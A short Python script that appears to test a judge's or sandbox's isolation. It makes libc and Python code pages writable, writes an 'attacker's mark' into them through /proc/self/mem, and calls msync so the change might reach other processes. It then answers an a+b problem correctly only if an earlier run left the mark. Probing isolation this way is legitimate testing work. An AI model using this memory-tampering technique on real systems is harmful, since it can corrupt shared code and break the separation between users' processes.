import ctypes
import mmap

# Code of libc and Python is in pages of files, which all processes share.
MARK = b"attacker's mark!"
libc = ctypes.CDLL(None)
found = False
for function in (libc.fopen64, ctypes.pythonapi.Py_GetCopyright):
    address = ctypes.cast(function, ctypes.c_void_p).value
    found |= ctypes.string_at(address, len(MARK)) == MARK
    page = address & -mmap.PAGESIZE
    libc.mprotect(ctypes.c_void_p(page), 2 * mmap.PAGESIZE, 7)
    try:
        with open("/proc/self/mem", "r+b", 0) as memory:
            memory.seek(address)
            memory.write(MARK)
    except OSError:
        pass
    libc.msync(ctypes.c_void_p(page), 2 * mmap.PAGESIZE, 4)
line = input()
print(sum(map(int, line.split())) if found else 6)
